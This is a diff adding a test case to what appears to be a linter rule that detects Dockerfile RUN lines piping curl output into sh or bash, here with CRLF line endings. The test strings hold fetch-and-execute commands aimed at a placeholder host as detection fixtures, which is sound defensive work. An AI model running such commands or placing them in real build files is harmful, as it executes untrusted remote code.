@@ -55,6 +55,14 @@ describe(RULE, () => {
     expect(at("RUN bash <<EOF\ncurl -s https://x.example/i | sh\nEOF")).toEqual([["pipe", 3, 1, 3, 33]]);
   });
 
+  it("reads a Dockerfile with CRLF line ends", () => {
+    const code = "FROM debian:12\r\nRUN apt-get update \\\r\n  && curl -s https://x.example/i | sh\r\nRUN <<EOF\r\ncurl -s https://x.example/j | bash\r\nEOF\r\n";
+    expect(findingsOf(RULE, code, { filename: "Dockerfile" }).map((f) => [f.line, f.column, f.endLine, f.endColumn])).toEqual([
+      [3, 6, 3, 38],
+      [5, 1, 5, 35],
+    ]);
+  });
+
   it("reads RUN with the escape directive's backtick continuation", () => {
     const code = "# escape=`\nFROM debian:12\nRUN curl -s https://x.example/i `\n  | sh\n";
     expect(findingsOf(RULE, code, { filename: "Dockerfile" }).map((f) => [f.line, f.column, f.endLine, f.endColumn])).toEqual([[3, 5, 4, 7]]);
